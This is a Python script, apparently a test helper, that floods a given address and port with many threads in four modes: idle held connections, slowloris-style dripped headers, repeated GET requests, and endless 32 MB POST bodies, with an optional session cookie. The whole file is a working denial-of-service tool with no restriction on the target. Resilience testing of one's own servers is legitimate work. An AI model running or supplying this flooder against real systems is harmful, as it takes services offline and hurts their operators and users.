"""Somebody in the network who floods an address: `python flooding.py ADDRESS PORT KIND COUNT [COOKIE]`.

A script of its own, so that it takes its time from nobody that is measured. It ends when it is ended.
"""

from __future__ import annotations

import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress

PIECE = bytes(1 << 16)


def hold(address: str, port: int, sent: bytes, drip: bytes) -> None:
    """Hold a connection, and take another whenever it is closed; send a little now and then."""
    while True:
        with suppress(OSError), socket.create_connection((address, port), timeout=5) as client:
            client.sendall(sent)
            client.settimeout(0.2)
            while True:
                if drip:
                    client.sendall(drip)
                with suppress(TimeoutError):
                    if not client.recv(1024):
                        break
        time.sleep(0.01)


def ask(address: str, port: int, request: bytes, body: int) -> None:
    """Ask again and again, with a body of so many bytes."""
    while True:
        with suppress(OSError), socket.create_connection((address, port), timeout=5) as client:
            client.sendall(request)
            for _ in range(body // len(PIECE)):
                client.sendall(PIECE)
            while client.recv(65536):
                pass


def main() -> None:
    """Flood."""
    address, port, kind, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    cookie = f"Cookie: {sys.argv[5]}\r\n" if len(sys.argv) > 5 else ""
    head = f"Host: {address}:{port}\r\nConnection: close\r\n{cookie}"
    size = 32 << 20
    one_more = f"POST /save HTTP/1.1\r\n{head}Content-Length: {size}\r\n\r\n".encode("ascii")
    works: dict[str, Callable[[], None]] = {
        "silent": lambda: hold(address, port, b"", b""),
        "drips": lambda: hold(address, port, b"GET / HTTP/1.1\r\nX: ", b"x"),
        "asks": lambda: ask(address, port, f"GET / HTTP/1.1\r\n{head}\r\n".encode("ascii"), 0),
        "bodies": lambda: ask(address, port, one_more, size),
    }
    threads = [threading.Thread(target=works[kind]) for _ in range(count)]
    for one in threads:
        one.start()
    sys.stdout.write("floods\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
